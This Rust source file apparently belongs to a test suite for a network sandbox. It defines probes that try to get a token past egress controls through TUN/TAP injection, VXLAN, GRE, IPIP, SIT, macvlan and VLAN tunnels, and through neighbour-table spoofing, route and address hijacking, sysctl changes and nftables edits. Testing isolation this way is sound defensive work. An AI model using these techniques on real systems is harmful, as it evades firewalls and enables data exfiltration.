//! Devices and settings of the network, for whoever may make or change them.

use std::{
    net::{IpAddr, Ipv4Addr},
    os::fd::AsRawFd as _,
};

use super::{Attack, success, token, wire};
use crate::attack::{
    aim::{AGENT4, Aim, GATEWAY4, WIRE},
    call::{Done, Sock, call, of_io, owned, settle, write},
    netlink::{Body, Netlink, index_of},
    packet::{ethernet, ipv4, udp},
};

/// The network that tunnels are to lead into; one for each attack, so that they do not meet.
fn beyond(aim: &Aim<'_>) -> Ipv4Addr {
    let [high, low] = aim.port().to_be_bytes();
    Ipv4Addr::new(10, high, low, 9)
}

/// Through a device of a kind of tunnel whose far end is the attack's address.
fn through(kind: &str, data: &Body, link: Option<u32>, aim: &Aim<'_>) -> Done {
    let netlink = Netlink::open()?;
    let name = format!("n{}", aim.index);
    netlink.device(kind, &name, data, link)?;
    let device = index_of(&name)?;
    let [a, b, c, _] = beyond(aim).octets();
    netlink.address(device, Ipv4Addr::new(a, b, c, 1).into(), 24, None)?;
    netlink.up(device)?;
    // Where the device has hardware addresses, nobody beyond would say theirs.
    let _without = netlink.neighbour(device, beyond(aim).into(), [2, 0, 0, 0, 0, 9]);
    Sock::udp4()?.send_to(std::net::SocketAddr::from((beyond(aim), 443)), &aim.token())?;
    settle(20)
}

fn vxlan(aim: &Aim<'_>) -> Body {
    const ID: u16 = 1;
    const GROUP: u16 = 2;
    const PORT: u16 = 15;
    let number = u32::from(aim.port());
    Body::default()
        .with(ID, &number.to_ne_bytes())
        .with(GROUP, &aim.bad4().octets())
        .with(PORT, &aim.port().to_be_bytes())
}

fn ends(local: u16, remote: u16, aim: &Aim<'_>) -> Body {
    Body::default().with(local, &AGENT4.octets()).with(remote, &aim.bad4().octets())
}

/// Packets that a program writes into a device arrive as if from a wire, and are forwarded.
fn tun(flags: i16, aim: &Aim<'_>) -> Done {
    const TUNSETIFF: libc::c_ulong = 0x4004_54ca;
    const IFF_NO_PI: i16 = 0x1000;
    // SAFETY: the path ends with a zero.
    let device = call("open_tun", || unsafe { libc::open(c"/dev/net/tun".as_ptr(), libc::O_RDWR) }.into())
        .map(owned)?;
    let name = format!("t{}", aim.index);
    let mut request = [0_u8; 40];
    request[..name.len()].copy_from_slice(name.as_bytes());
    request[16..18].copy_from_slice(&(flags | IFF_NO_PI).to_ne_bytes());
    // SAFETY: as large as the kernel's structure, and lives through the call.
    call("TUNSETIFF", || unsafe { libc::ioctl(device.as_raw_fd(), TUNSETIFF, request.as_mut_ptr()) }.into())?;
    let netlink = Netlink::open()?;
    let index = index_of(&name)?;
    let [a, b, c, other] = beyond(aim).octets();
    netlink.address(index, Ipv4Addr::new(a, b, c, 1).into(), 24, None)?;
    if flags == TAP {
        let body = Body::device(index, 0).with(libc::IFLA_ADDRESS, &HARDWARE);
        netlink.request("setlink", libc::RTM_NEWLINK, 0, &body)?;
    }
    netlink.up(index)?;
    let packet = ipv4(Ipv4Addr::new(a, b, c, other), aim.bad4(), 17, 0, &udp(443, &aim.token()));
    if flags == TAP {
        let mut frame = ethernet(0x0800, &packet);
        frame[..6].copy_from_slice(&HARDWARE);
        return write("write_tap", device.as_raw_fd(), &frame);
    }
    write("write_tun", device.as_raw_fd(), &packet)
}

const HARDWARE: [u8; 6] = [2, 0, 0, 0, 0, 7];
const TUN: i16 = 1;
const TAP: i16 = 2;

pub(super) const ATTACKS: &[Attack] = &[
    wire("n-tun", "packets written into a TUN device and forwarded", |aim| tun(TUN, aim)).root(),
    wire("n-tap", "frames written into a TAP device and forwarded", |aim| tun(TAP, aim)).root(),
    wire("n-vxlan", "VXLAN tunnel", |aim| through("vxlan", &vxlan(aim), None, aim)).needs("root, VXLAN"),
    wire("n-gre", "GRE tunnel", |aim| through("gre", &ends(6, 7, aim), None, aim)).needs("root, GRE"),
    wire("n-gretap", "GRE tunnel of frames", |aim| through("gretap", &ends(6, 7, aim), None, aim))
        .needs("root, GRE"),
    wire("n-ipip", "IP in IP tunnel", |aim| through("ipip", &ends(2, 3, aim), None, aim)).needs("root, IPIP"),
    wire("n-sit", "IPv6 in IP tunnel", |aim| {
        let netlink = Netlink::open()?;
        let name = format!("n{}", aim.index);
        netlink.device("sit", &name, &ends(2, 3, aim), None)?;
        let device = index_of(&name)?;
        netlink.up(device)?;
        let to = std::net::Ipv6Addr::new(0xfd99, 0, 0, 0, 0, 0, 0, 9);
        netlink.route((IpAddr::V6(to), 128), None, Some(device), false)?;
        Sock::udp6()?.send_to(std::net::SocketAddr::from((to, 443)), &aim.token())?;
        settle(20)
    })
    .needs("root, SIT"),
    token("n-macvlan", "a second device on the wire", |aim| {
        const MODE: u16 = 1;
        through("macvlan", &Body::default().with(MODE, &4_u32.to_ne_bytes()), Some(WIRE), aim)
    })
    .needs("root, macvlan"),
    token("n-vlan", "another VLAN on the wire", |aim| {
        const ID: u16 = 1;
        through("vlan", &Body::default().with(ID, &77_u16.to_ne_bytes()), Some(WIRE), aim)
    })
    .needs("root, 8021q"),
    success("n-neighbour", "an allowed host's hardware address replaced", |_| {
        // Of an address that no other attack needs.
        let netlink = Netlink::open()?;
        netlink.neighbour(WIRE, Ipv4Addr::new(192, 0, 2, 99).into(), [2, 0, 0, 0, 0, 0x66])
    })
    .root(),
    success("n-route", "an allowed host reached by another way", |_| {
        let netlink = Netlink::open()?;
        netlink.route((Ipv4Addr::new(203, 0, 113, 7).into(), 32), Some(GATEWAY4.into()), Some(WIRE), false)
    })
    .root(),
    success("n-address", "another host's address taken", |_| {
        Netlink::open()?.address(1, Ipv4Addr::new(203, 0, 113, 8).into(), 32, None)
    })
    .root(),
    success("n-setting", "a setting of the network changed", |_| {
        std::fs::write("/proc/sys/net/ipv4/ip_default_ttl", "65").map_err(of_io("write_setting"))
    })
    .root(),
    success("n-firewall", "the packet filter's tables", |_| {
        const NETLINK_NETFILTER: i32 = 12;
        const NEW_TABLE: u16 = 10 << 8;
        let socket = Sock::open(libc::AF_NETLINK, libc::SOCK_RAW, NETLINK_NETFILTER)?;
        let mut batch = Vec::new();
        for (kind, flags, body) in [
            (16_u16, 1_u16, vec![0, 0, 0, 10]),
            (NEW_TABLE, 0x405, vec![2, 0, 0, 0, 12, 0, 1, 0, b'e', b'g', b'r', b'e', b's', b's', b'x', 0]),
            (17, 1, vec![0, 0, 0, 10]),
        ] {
            batch.extend(u32::try_from(body.len() + 16).unwrap_or_default().to_ne_bytes());
            batch.extend(kind.to_ne_bytes());
            batch.extend(flags.to_ne_bytes());
            batch.extend([0; 8]);
            batch.extend(body);
        }
        socket.send(&batch)?;
        let mut answer = [0_u8; 256];
        // SAFETY: the kernel writes at most the buffer's length.
        call("nft", || unsafe {
            libc::recv(socket.as_raw_fd(), answer.as_mut_ptr().cast(), answer.len(), 0) as libc::c_long
        })?;
        match i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]) {
            0 => Ok(()),
            errno => crate::attack::call::stop("nft", -errno),
        }
    })
    .needs("root, nf_tables"),
];
